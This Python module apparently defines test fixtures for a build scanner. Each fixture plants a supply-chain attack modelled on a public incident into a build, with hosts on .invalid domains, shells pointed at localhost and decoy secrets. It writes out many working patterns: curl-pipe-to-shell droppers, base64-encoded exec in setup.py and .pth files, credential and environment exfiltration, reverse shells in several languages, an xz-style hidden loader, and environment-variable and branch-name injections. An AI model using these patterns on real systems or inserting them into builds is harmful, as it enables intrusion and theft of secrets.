"""Attacks planted in the builds: the shapes of public incidents, with payloads that do no harm.

``plant`` is text for ``bash -e`` and is run in the build's folder before ``trigger``, the part of the build that sets it off. Hosts end
in ``.invalid`` (RFC 2606: they resolve nowhere) or are the discard port of the own machine, where nobody listens; secrets are decoys.
``file`` holds the text, where ``flycatcher scan`` has to find it, too.
"""

from __future__ import annotations

from msgspec import Struct


class Attack(Struct, frozen=True, kw_only=True):
    """One attack."""

    name: str
    build: str
    """The build of the catalogue that it is planted in; empty: a folder of its own, which needs no network."""
    like: str
    """The incident, or the published technique, that it has its shape from."""
    plant: str
    trigger: str
    file: str = ""
    """Where ``scan`` finds it, below the build's folder; empty: only what runs tells of it."""
    programs: tuple[str, ...] = ()
    """Programs that it needs beside a shell."""


_HOOK = 'mkdir -p src && cd src && cat > package.json <<\'END\'\n{"name": "victim", "version": "1.0.0", "scripts": {%s}}\nEND\n'
_INSTALL = "cd src && HOME=$PWD NPM_TOKEN=npm_decoy npm install --offline --no-audit --no-fund --loglevel=error"
_B64_CURL = "aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vdXBkYXRlcy5pbnZhbGlkL2EgfCBzaCIpCg=="
"""``import os\\nos.system("curl -s http://updates.invalid/a | sh")``."""
_MAKE = "mkdir -p src && cat > src/planted.mk <<'END'\nall:\n\t%s\nEND\n"
_RUN_MAKE = "cd src && make -s -f planted.mk || true"

ATTACKS = (
    Attack(
        name="npm-preinstall-reverse-shell",
        build="",
        like="reverse shells in npm's install hooks, by dependency confusion",
        plant=_HOOK % r'"preinstall": "bash -c \"bash -i >& /dev/tcp/127.0.0.1/9 0>&1\""',
        trigger=_INSTALL,
        file="src/package.json",
        programs=("npm",),
    ),
    Attack(
        name="npm-postinstall-token",
        build="npm-install-scripts",
        like="eslint-scope 3.7.2 (2018): a hook that sends npm's token away",
        plant='cd src && npm pkg set --json \'scripts.postinstall="node -e \\"require(\\u0027https\\u0027).get(\\u0027https://collector.invalid/?t=\\u0027+process.env.NPM_TOKEN).on(\\u0027error\\u0027,()=>0)\\""\'',
        trigger="cd src && NPM_TOKEN=npm_decoy npm run postinstall",
        file="src/package.json",
    ),
    Attack(
        name="npm-dropper",
        build="npm-node-gyp",
        like="ua-parser-js 0.7.29 (2021): curl, chmod, run",
        plant="cd src && npm pkg set 'scripts.preinstall=curl -s http://updates.invalid/jsextension -o ./jsextension; chmod +x ./jsextension; ./jsextension -k &'",
        trigger="cd src && npm run preinstall",
        file="src/package.json",
    ),
    Attack(
        name="npm-profile",
        build="npm-vite",
        like="nx 21.5 (s1ngularity, 2025): a hook that writes to the shell's profile",
        plant='cd src && npm pkg set --json \'scripts.postinstall="node -e \\"require(\\u0027fs\\u0027).appendFileSync(process.env.HOME+\\u0027/.bashrc\\u0027,\\u0027sudo shutdown -h 0\\\\\\\\n\\u0027)\\""\'',
        trigger="cd src && HOME=$PWD npm run postinstall",
        file="src/package.json",
    ),
    Attack(
        name="binding-gyp",
        build="npm-node-gyp",
        like="command expansions in a native module's build file",
        plant="""mkdir -p src/native && cd src/native && cat > binding.gyp <<'END'
{"targets": [{"target_name": "a", "type": "none", "variables": {"x": "<!(node -e \\"require('child_process').execSync('curl -s http://collector.invalid/?t='+process.env.NPM_TOKEN+' || true')\\")"}}]}
END
""",
        trigger="cd src/native && NPM_TOKEN=npm_decoy npm_config_nodedir=/usr npx --offline node-gyp configure || NPM_TOKEN=npm_decoy npm_config_nodedir=/usr $(npm root -g)/npm/node_modules/node-gyp/bin/node-gyp.js configure",
        file="src/native/binding.gyp",
    ),
    Attack(
        name="setup-py-base64",
        build="pip-sdist-c",
        like="W4SP and its kin (PyPI, 2022): setup.py starts an interpreter on encoded text",
        plant=f"""sed -i '1i import subprocess, sys\\nsubprocess.run([sys.executable, "-c", "import base64;exec(base64.b64decode(\\x27{_B64_CURL}\\x27))"])' src/setup.py""",
        trigger="cd src && ../tools/bin/python setup.py -q --version",
        file="src/setup.py",
    ),
    Attack(
        name="setup-py-exec",
        build="pip-sdist-cython",
        like="exec of encoded text in setup.py itself, whose payload fetches the next stage",
        plant=f"""sed -i '1i exec(__import__("base64").b64decode("{_B64_CURL}"))' src/setup.py""",
        trigger="cd src && python3 setup.py -q --version || true",
        file="src/setup.py",
    ),
    Attack(
        name="pth-file",
        build="pip-sdist-c",
        like="litellm (2026): a .pth file that starts an interpreter at every start of Python",
        plant=f"""d=$(tools/bin/python -c 'import sysconfig; print(sysconfig.get_path("purelib"))') && mkdir -p src/planted && cat > src/planted/startup.pth <<'END'
import os, subprocess, sys; os.environ.get("PLANTED") or subprocess.run([sys.executable, "-c", "import base64;exec(base64.b64decode('{_B64_CURL}'))"], env=dict(os.environ, PLANTED="1"))
END
cp src/planted/startup.pth "$d/startup.pth" """,
        trigger="tools/bin/pip --version",
        file="src/planted/startup.pth",
    ),
    Attack(
        name="conftest",
        build="pytest-xdist",
        like="secrets of a cloud account sent away while tests run",
        plant="""cat >> src/tests/conftest.py <<'END'
import os, subprocess, sys
subprocess.run([sys.executable, "-c", "import os,urllib.request as u\\nd=open(os.path.expanduser('~/.aws/credentials')).read()\\nu.urlopen('https://collector.invalid/', data=d.encode())"], stderr=subprocess.DEVNULL)
END
""",
        trigger="cd src && HOME=$PWD ../tools/bin/python -m pytest -q -p no:cacheprovider tests/test_version.py -k none || true",
    ),
    Attack(
        name="tox-command",
        build="tox",
        like="the whole environment sent away by a test command",
        plant="""mkdir -p planted && cat > planted/tox.ini <<'END'
[tox]
env_list = py
[testenv]
skip_install = true
commands = - {envpython} -c "import os,json,urllib.request as u; u.urlopen('https://collector.invalid/', data=json.dumps(dict(os.environ)).encode())"
END
""",
        trigger="cd src && ../tools/bin/tox -q -c ../planted/tox.ini --root . run || true",
        file="planted/tox.ini",
    ),
    Attack(
        name="pre-commit-hook",
        build="pre-commit",
        like="a local hook that fetches and runs",
        plant="""cd src && cat > .pre-commit-config.yaml <<'END'
repos:
- repo: local
  hooks:
  - id: style
    name: style
    language: system
    entry: bash -c 'curl -s http://updates.invalid/hook.sh | bash'
    always_run: true
    pass_filenames: false
END
git add -A""",
        trigger="cd src && ../tools/bin/pre-commit run --all-files",
        file="src/.pre-commit-config.yaml",
    ),
    Attack(
        name="make-curl-bash",
        build="hello-autotools",
        like="Codecov's uploader (2021) and many others: a recipe that pipes the network into a shell",
        plant=_MAKE % "@curl -s http://updates.invalid/setup.sh | bash",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
    ),
    Attack(
        name="make-environment",
        build="sed-gnulib",
        like="Codecov (2021): the environment and the remotes in a request",
        plant=_MAKE
        % '@curl -sm 0.5 -d "$$(git remote -v)<<<<<< ENV $$(env)" http://collector.invalid/upload/v2 || true',
        trigger=_RUN_MAKE,
        file="src/planted.mk",
    ),
    Attack(
        name="configure-xz",
        build="hello-autotools",
        like="xz 5.6.0 (2024): configure takes a test file apart and runs what was hidden in it",
        plant=r"""printf 'eval "curl -s http://updates.invalid/stage2 | sh"; : planted\n' | xz -c | tr "\t \-_" " \t_\-" > src/tests/bad-3-corrupt.xz
cat > src/planted.sh <<'END'
gl_path_map='tr "\t \-_" " \t_\-"'
sed "r\n" tests/bad-3-corrupt.xz | eval $gl_path_map | xz -d 2>/dev/null | /bin/bash >/dev/null 2>&1
END
sed -i '15r src/planted.sh' src/configure""",
        trigger="cd src && ./configure --version",
        file="src/planted.sh",
    ),
    Attack(
        name="cmake-execute-process",
        build="cmake",
        like="a build file that runs a shell while it is configured",
        plant="""mkdir -p src/planted && cat > src/planted/CMakeLists.txt <<'END'
cmake_minimum_required(VERSION 3.10)
project(planted NONE)
execute_process(COMMAND bash -c "curl -s http://updates.invalid/toolchain.sh | bash")
END
""",
        trigger="cmake -S src/planted -B planted-out",
        file="src/planted/CMakeLists.txt",
    ),
    Attack(
        name="meson-run-command",
        build="meson",
        like="a build file that starts an interpreter on encoded text",
        plant=f"""mkdir -p src/planted && cat > src/planted/meson.build <<'END'
project('planted')
run_command('python3', '-c', 'import base64;exec(base64.b64decode("{_B64_CURL}"))', check: false)
END
""",
        trigger="meson setup planted-out src/planted",
        file="src/planted/meson.build",
    ),
    Attack(
        name="makefile-pl",
        build="perl-makemaker",
        like="a reverse shell in Perl, started by Makefile.PL",
        plant=r"""cat > src/planted.sh <<'END'
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(9,inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
END
sed -i '1i BEGIN { system("sh", "-c", do { local $/; open my $f, "<", "planted.sh"; <$f> }) }' src/Makefile.PL""",
        trigger="cd src && perl Makefile.PL",
        file="src/planted.sh",
    ),
    Attack(
        name="extconf-rb",
        build="ruby-extension",
        like="a reverse shell in Ruby, started by extconf.rb",
        plant=r"""cd src/ext/nokogiri && sed -i '1i system(%q{ruby -rsocket -e "exit if fork;c=TCPSocket.new(%q(127.0.0.1),9);while(cmd=c.gets);IO.popen(cmd,%q(r)){|io|c.print io.read}end"})' extconf.rb""",
        trigger="cd src/ext/nokogiri && ruby extconf.rb --help",
        file="src/ext/nokogiri/extconf.rb",
    ),
    Attack(
        name="composer-script",
        build="php-composer",
        like="a reverse shell in PHP in a composer script",
        plant="""cd src && php -r '$j = json_decode(file_get_contents("composer.json"), true); $j["scripts"]["post-install-cmd"] = "@php -r \\x27\\$s=@fsockopen(\\"127.0.0.1\\",9);if(\\$s)exec(\\"sh <&3 >&3 2>&3\\");\\x27"; file_put_contents("composer.json", json_encode($j, JSON_UNESCAPED_SLASHES));'""",
        trigger="cd src && COMPOSER_ALLOW_SUPERUSER=1 composer run-script --no-interaction post-install-cmd",
        file="src/composer.json",
    ),
    Attack(
        name="ansible-task",
        build="ansible",
        like="a reverse shell in Python in a playbook",
        plant="""cat > src/planted.yml <<'END'
- hosts: localhost
  connection: local
  gather_facts: false
  tasks:
  - shell: python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",9));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
    ignore_errors: true
END
""",
        trigger="cd src && ANSIBLE_LOCALHOST_WARNING=false ../tools/bin/ansible-playbook -i localhost, planted.yml",
        file="src/planted.yml",
    ),
    Attack(
        name="ant-exec",
        build="java",
        like="an exec task of ant (the same as maven's exec plugin) with a reverse shell",
        plant="""mkdir -p src/planted && cat > src/planted/build.xml <<'END'
<project name="planted" default="all"><target name="all">
<exec executable="bash"><arg value="-c"/><arg value="bash -i &gt;&amp; /dev/tcp/127.0.0.1/9 0&gt;&amp;1"/></exec>
</target></project>
END
""",
        trigger="ant -q -f src/planted/build.xml",
        file="src/planted/build.xml",
        programs=("ant",),
    ),
    Attack(
        name="kbuild-recipe",
        build="busybox-kbuild",
        like="a raw socket and a shell in one recipe: mkfifo and nc",
        plant=_MAKE
        % "@rm -f f; mkfifo f; (sleep 1; : > f) & cat f | /bin/sh -i 2>&1 | timeout 2 nc 127.0.0.1 9 > f; rm -f f",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
        programs=("nc",),
    ),
    Attack(
        name="debian-rules",
        build="debian-c",
        like="a gist piped into python as root, as in tj-actions/changed-files (2025)",
        plant="sed -i '/^override_dh_auto_configure/i planted:\\n\\tcurl -sSf http://gist.invalid/memdump.py | python3 | tr -d \"\\\\0\" | base64 -w 0' src/debian/rules && { grep -q ^planted: src/debian/rules || printf 'planted:\\n\\tcurl -sSf http://gist.invalid/memdump.py | python3 | base64 -w 0\\n' >> src/debian/rules; }",
        trigger="cd src && make -f debian/rules planted || true",
        file="src/debian/rules",
    ),
    Attack(
        name="containerfile",
        build="buildah",
        like="an image that fetches and runs while it is built",
        plant="cd src && printf 'FROM scratch\\nCOPY root/busybox /bin/sh\\nCOPY root/busybox /bin/wget\\nRUN wget -qO- http://updates.invalid/x.sh | sh\\n' > Containerfile",
        trigger="cd src && buildah --storage-driver vfs --root $PWD/../store --runroot $PWD/../run bud --isolation chroot -q -t local/x . || true",
        file="src/Containerfile",
    ),
    Attack(
        name="git-make-sed",
        build="git-make",
        like="GTFOBins: sed's e command",
        plant=_MAKE % "@echo a | sed '1e curl -s http://updates.invalid/a | sh'",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
    ),
    Attack(
        name="awk-system",
        build="",
        like="GTFOBins: awk's system",
        plant=_MAKE % """@awk 'BEGIN { system("curl -s http://updates.invalid/a | sh") }'""",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
        programs=("make", "awk"),
    ),
    Attack(
        name="node-options-data",
        build="",
        like="a data: URL imported by every node that starts",
        plant=_MAKE
        % """@NODE_OPTIONS='--import data:text/javascript,import{execSync}from"child_process";execSync("curl%%20-s%%20http://updates.invalid/a|sh")' node --version; NODE_OPTIONS='--import data:text/javascript,import{execSync}from"child_process";execSync("true;curl%%20-s%%20http://updates.invalid/a|sh")' node -e 0""",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
        programs=("make", "node"),
    ),
    Attack(
        name="bash-env",
        build="",
        like="BASH_ENV with a command substitution: every script that bash runs starts it",
        plant="mkdir -p src && printf 'echo built\\n' > src/step.sh && "
        + (_MAKE % "@BASH_ENV='$$(curl -s http://updates.invalid/a | sh)' bash step.sh"),
        trigger=_RUN_MAKE,
        file="src/planted.mk",
        programs=("make",),
    ),
    Attack(
        name="perl5opt",
        build="",
        like="PERL5OPT with code in an option: every perl that starts runs it",
        plant="mkdir -p src && printf 'print 1;\\n' > src/step.pl && "
        + (_MAKE % """@PERL5OPT='-Mstrict;system(qq(curl,-s,http://updates.invalid/a)=~/,/?q(curl):1)' perl step.pl"""),
        trigger=_RUN_MAKE,
        programs=("make", "perl"),
    ),
    Attack(
        name="memfd",
        build="",
        like="an executable that is in memory only (MITRE ATT&CK T1620)",
        plant=_MAKE
        % """@python3 -c 'import os,urllib.request as u; f=os.memfd_create("kworker"); os.write(f, open("/bin/true","rb").read()); os.execv("/proc/self/fd/%%d" %% f, ["kworker"])'""",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
        programs=("make", "python3"),
    ),
    Attack(
        name="fifo-shell",
        build="",
        like="a shell between a FIFO and the network",
        plant=_MAKE % "@rm -f f; mkfifo f; (sleep 1; : > f) & sh -i < f 2>&1 | timeout 2 nc 127.0.0.1 9 > f; rm -f f",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
        programs=("make", "nc"),
    ),
    Attack(
        name="heredoc-python",
        build="",
        like="encoded text for an interpreter that reads a here-document",
        plant=f"""mkdir -p src && cat > src/ci.sh <<'OUTER'
python3 - <<'END'
import base64, zlib
exec(base64.b64decode("{_B64_CURL}"))
END
OUTER
""",
        trigger="bash src/ci.sh",
        file="src/ci.sh",
        programs=("python3",),
    ),
    Attack(
        name="php-webshell",
        build="",
        like="encoded and compressed PHP",
        plant=_MAKE
        % """@php -r "eval(gzinflate(base64_decode('$(shell php -r 'echo base64_encode(gzdeflate("@system(\\"curl -s http://updates.invalid/a | sh\\");"));')')));" """,
        trigger=_RUN_MAKE,
        programs=("make", "php"),
    ),
    Attack(
        name="ruby-eval-net",
        build="",
        like="rest-client 1.6.13 (2019): eval of what a paste site answers",
        plant=_MAKE % """@ruby -rnet/http -e 'eval(Net::HTTP.get(URI("http://paste.invalid/raw/xa456PFt")))' || true""",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
        programs=("make", "ruby"),
    ),
    Attack(
        name="lua-execute",
        build="",
        like="an interpreter that rules seldom name",
        plant=_MAKE % """@lua -e 'os.execute("curl -s http://updates.invalid/a | sh")'""",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
        programs=("make", "lua"),
    ),
    Attack(
        name="branch-name",
        build="",
        like="ultralytics (2024): a branch's name that is shell text",
        plant=_MAKE.replace("all:", "SHELL := /bin/bash\nall:")
        % """@git check-ref-format --branch x"$$({curl,-sSfL,http://raw.invalid/file.sh}$${IFS}|$${IFS}bash)" || true""",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
        programs=("make", "git"),
    ),
    Attack(
        name="tar-checkpoint",
        build="",
        like="GTFOBins: tar's checkpoint action",
        plant=_MAKE
        % """@tar cf /dev/null planted.mk --checkpoint=1 --checkpoint-action=exec='sh -c "curl -s http://updates.invalid/a | sh"'""",
        trigger=_RUN_MAKE,
        file="src/planted.mk",
        programs=("make", "tar"),
    ),
)
